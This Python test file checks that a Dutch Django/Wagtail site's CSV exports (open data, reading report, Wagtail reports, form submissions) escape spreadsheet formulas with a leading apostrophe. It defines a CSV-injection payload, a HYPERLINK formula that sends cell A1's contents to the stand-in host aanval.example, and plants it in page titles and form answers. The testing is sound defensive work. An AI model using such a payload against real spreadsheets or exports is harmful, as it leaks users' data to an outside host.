"""Every CSV the site or its admin writes keeps a formula as text (a leading `'`).

`=HYPERLINK(...)` arrives by the routes a real attacker has: a municipality title that
passed review, a page title, a form answer from an anonymous visitor.
"""

import csv
import io

from django.utils import timezone

from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Page

import pytest

from home.reading.models import PageViewCount
from home.spreadsheets import safe_cell
from programme.models import SupportRequestPage

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://aanval.example/?d="&A1,"Klik")'


def cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def assert_neutralised(response):
    assert response.status_code == 200
    found = cells(response)
    assert any(cell.startswith("'" + FORMULA) for cell in found), found[:20]
    assert not any(cell.startswith(("=", "+", "@")) for cell in found)


@pytest.mark.parametrize("value", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_each_formula_start_is_kept_as_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Nijmegen") == "Nijmegen" and safe_cell(-3) == -3 and safe_cell(None) is None


@pytest.fixture
def hostile_page(demo_page):
    page = demo_page("gemeenten/utrecht").specific
    page.title = FORMULA
    page.save_revision().publish()
    return page


def test_the_public_open_data_csv(client, hostile_page):
    index = Page.objects.get(url_path="/home/")
    programme = [p for p in index.get_children().live().specific() if hasattr(p, "data_licence")][0]
    assert_neutralised(client.get(f"{programme.url}cijfers/csv/"))


def test_the_reading_report_csv(admin_client, hostile_page):
    PageViewCount.objects.create(page=hostile_page, language="nl", day=timezone.localdate(), views=3)
    assert_neutralised(admin_client.get("/admin/reports/reading/?export=csv"))


@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
def test_wagtails_report_exports(admin_client, hostile_page, report):
    assert_neutralised(admin_client.get(f"/admin/reports/{report}/?export=csv"))


def test_the_form_submissions_export(client, admin_client):
    page = SupportRequestPage.objects.get(locale__language_code="nl")
    FormSubmission.objects.create(page=page, form_data={"uw_vraag": FORMULA, "organisatie": "Gemeente"})
    assert_neutralised(admin_client.get(f"/admin/forms/submissions/{page.pk}/?export=csv"))
